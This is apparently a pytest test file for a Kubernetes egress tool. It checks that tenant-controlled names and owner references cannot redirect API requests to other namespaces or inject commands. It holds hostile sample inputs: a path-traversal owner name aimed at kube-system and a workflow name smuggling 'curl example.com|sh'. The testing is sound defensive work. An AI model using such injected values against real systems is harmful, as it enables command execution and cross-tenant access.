"""Whatever tenants write into their objects: what is asked for, and who is attended to."""

from __future__ import annotations

import json
import re
from datetime import datetime, timezone
from typing import Any

import httpx2
import msgspec
import pytest
from hypothesis import given

from init_egress.existing import controllers
from init_egress.existing.advice import Juju
from init_egress.existing.audit import audit, document
from init_egress.existing.mutation import Disruptions, Mutation
from init_egress.existing.mutation_plan import Restart
from init_egress.existing.mutation_report import MutationReport, MutationResult
from init_egress.existing.owners import ControllerChain
from init_egress.existing.pod_template import TemplateUnknown, pod_from_template
from init_egress.kube import paths
from init_egress.kube.client import ApiClient
from init_egress.kube.errors import InvalidName
from init_egress.kube.kinds import REPLICA_SET, Resource
from init_egress.kube.objects import OwnerReference, StoredPod
from init_egress.kube.scope import Scope
from init_egress.rule.policy import Policy
from tests import hostile

Json = dict[str, Any]
NOW = datetime(2026, 3, 1, 12, tzinfo=timezone.utc)
VICTIM: Json = {
    "apiVersion": "apps/v1",
    "kind": "Deployment",
    "name": "../../../namespaces/kube-system/deployments/victim",
    "uid": "victim",
    "controller": True,
}
# Whatever a Pod of the namespace says, nothing else is asked for.
_ASKED = re.compile(
    r"/api/v1/namespaces(/team)?"
    r"|/apis?(/[a-z0-9.-]+){1,2}"
    r"|/apis?(/[a-z0-9.-]+){1,2}/namespaces/team/[a-z]+(/[a-z0-9]([a-z0-9.-]*[a-z0-9])?(/eviction)?)?"
)


class Server:
    """Lists Pods; whatever else it is asked for is there, and hostile too, or is not there."""

    def __init__(self, pods: list[Json], owner: Json | None = None) -> None:
        self.asked: list[tuple[str, str]] = []
        self._pods = pods
        self._owner = owner

    def __call__(self, request: httpx2.Request) -> httpx2.Response:
        path = request.url.raw_path.decode().partition("?")[0]
        self.asked.append((request.method, path))
        if path == "/api/v1/namespaces/team":
            return httpx2.Response(200, json={"metadata": {"name": "team"}})
        if path == "/api/v1/namespaces/team/pods":
            return httpx2.Response(200, json={"items": self._pods, "metadata": {}})
        if self._owner is None:
            return httpx2.Response(404, json={"message": "not found"})
        return httpx2.Response(200, json=self._owner)

    def client(self) -> ApiClient:
        http = httpx2.Client(transport=httpx2.MockTransport(self), base_url="https://api")
        return ApiClient(http, lambda _: None)


def stored(**metadata: Any) -> StoredPod:
    meta = {"namespace": "team", "name": "web", "uid": "u", **metadata}
    return msgspec.convert({"metadata": meta}, StoredPod)


# Paths


@given(hostile.names, hostile.names)
def test_a_path_has_the_parts_that_it_was_made_of_or_there_is_none(
    namespace: str, name: str
) -> None:
    try:
        path = paths.single(REPLICA_SET, name, namespace)
    except InvalidName:
        return

    sent = httpx2.Request("GET", f"https://api{path}").url.raw_path.decode()
    assert sent.split("/") == [
        "",
        "apis",
        "apps",
        "v1",
        "namespaces",
        namespace,
        "replicasets",
        name,
    ]


@given(hostile.texts)
def test_text_is_shown_on_one_line_of_bounded_length(text: str) -> None:
    assert paths.shown(text).isprintable()
    assert len(paths.shown(text)) < 700


@given(hostile.owner_references)
def test_an_owner_is_asked_for_by_its_own_name_in_the_pods_namespace_or_not_at_all(
    reference: Json,
) -> None:
    owner = msgspec.convert(reference, OwnerReference)
    assert controllers.title(owner).isprintable()
    assert len(controllers.title(owner)) < 400
    if not controllers.is_known(owner):
        return
    path = paths.single(controllers.resource(owner), owner.name, "team")
    assert path.split("/")[-4:] == [
        "namespaces",
        "team",
        controllers.resource(owner).plural,
        owner.name,
    ]


@pytest.mark.parametrize("version", ["v1", "apps/v1", "apps/v1/x", "/v1", "a/../v1", "../v1", ""])
def test_only_a_group_and_version_become_a_path(version: str) -> None:
    if version in ("v1", "apps/v1"):
        assert paths.group_version(version).endswith(version)
        return
    with pytest.raises(InvalidName):
        paths.group_version(version)


def test_a_kind_without_a_namespace_is_not_looked_for_in_one() -> None:
    node = Resource("", "v1", "Node", "nodes", namespaced=False)

    assert paths.single(node, "n") == "/api/v1/nodes/n"
    with pytest.raises(InvalidName, match="has no namespace"):
        paths.single(node, "n", "team")
    with pytest.raises(InvalidName, match="needs a namespace"):
        paths.single(REPLICA_SET, "web")


# Owners


def test_an_owner_of_another_namespace_is_neither_read_nor_followed() -> None:
    server = Server([])
    pod = stored(ownerReferences=[VICTIM])

    chain = ControllerChain(server.client(), Scope()).chain("team", pod.metadata.controller)
    with pytest.raises(TemplateUnknown, match="not a valid reference"):
        pod_from_template(server.client(), pod)

    assert server.asked == []
    assert "not a valid reference" in controllers.title(chain[-1])


def test_an_owner_that_has_the_name_but_not_the_uid_is_not_followed() -> None:
    owner = {
        "metadata": {
            "namespace": "team",
            "name": "web",
            "uid": "another",
            "ownerReferences": [VICTIM],
        }
    }
    reference = msgspec.convert({**VICTIM, "name": "web"}, OwnerReference)
    server = Server([], owner)

    assert controllers.Controllers(server.client()).read(reference, "team") is None


@pytest.mark.parametrize(
    "text", ["[" * 100_000, "\x00", '{"metadata": {"labels": 1}, "spec": []}']
)
def test_a_last_applied_configuration_of_any_text_is_told(text: str) -> None:
    pod = stored(annotations={"kubectl.kubernetes.io/last-applied-configuration": text})

    with pytest.raises(TemplateUnknown, match="can't be read"):
        pod_from_template(Server([]).client(), pod)


# Runs over all Pods


@given(hostile.pods)
def test_the_audit_counts_every_pod_whatever_it_says(pods: list[Json]) -> None:
    server = Server(pods)

    found = audit(server.client(), Policy(), Scope("team"), Juju("egress"))

    assert found.pods + found.unreadable.count == len(pods)
    assert (
        json.loads(msgspec.json.encode(document(found, [])))["unreadable"]
        == len(pods) - found.pods
    )
    assert all(_ASKED.fullmatch(path) for _, path in server.asked), server.asked


@given(hostile.pods)
def test_a_mutation_accounts_for_every_pod_whatever_it_says(pods: list[Json]) -> None:
    owner = {
        "metadata": {"namespace": "team", "name": "web", "uid": "u", "ownerReferences": [VICTIM]}
    }
    for restart in Restart:
        server = Server(pods, owner)
        report = MutationReport(Scope("team"), dry_run=False)

        Mutation(
            server.client(),
            Policy(),
            report.scope,
            restart,
            lambda namespace, pod: "",
            report,
            Disruptions(50),
            lambda _: None,
            now=lambda: NOW,
        ).run()

        assert report.seen.total() + report.unreadable.count == len(pods)
        assert report.counts()["unreadable"] == report.unreadable.count
        assert not report.broken_off
        assert all(_ASKED.fullmatch(path) for _, path in server.asked), server.asked


def test_no_command_is_printed_with_a_name_that_is_not_valid() -> None:
    workflow = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Workflow",
        "name": "x -n t; curl example.com|sh #",
        "uid": "u",
        "controller": True,
    }
    pods = [
        {
            "metadata": {
                "namespace": "team",
                "name": "web",
                "uid": "u",
                "annotations": {"sidecar.istio.io/status": "{}"},
                "ownerReferences": [workflow],
            },
            "spec": {
                "initContainers": [{"name": "fetch"}],
                "containers": [{"name": "istio-proxy"}],
            },
            "status": {
                "phase": "Pending",
                "initContainerStatuses": [
                    {"name": "fetch", "restartCount": 7, "state": {"waiting": {"reason": "Error"}}}
                ],
            },
        }
    ]
    report = MutationReport(Scope("team"), dry_run=False)

    Mutation(
        Server(pods, {}).client(),
        Policy(),
        report.scope,
        Restart.STUCK,
        lambda namespace, pod: "",
        report,
        Disruptions(50),
        lambda _: None,
        now=lambda: NOW,
    ).run()

    (account,) = report.pods
    assert account.result is MutationResult.PATCHED
    assert "argo" not in account.reason
    assert "its controller is not known" in account.reason


def test_the_pods_that_could_not_be_read_are_named_as_far_as_there_is_room() -> None:
    odd = [{"metadata": {"namespace": "team", "name": f"odd-{n:02}", "uid": 7}} for n in range(12)]

    found = audit(Server(odd).client(), Policy(), Scope("team"), Juju("egress"))

    assert found.summary.endswith("12 Pods could not be read, such as team/odd-00")
    shown = document(found, [])["unreadable-pods"]
    assert isinstance(shown, list)
    assert len(shown) == 10
    assert shown[0].startswith("team/odd-00: ")
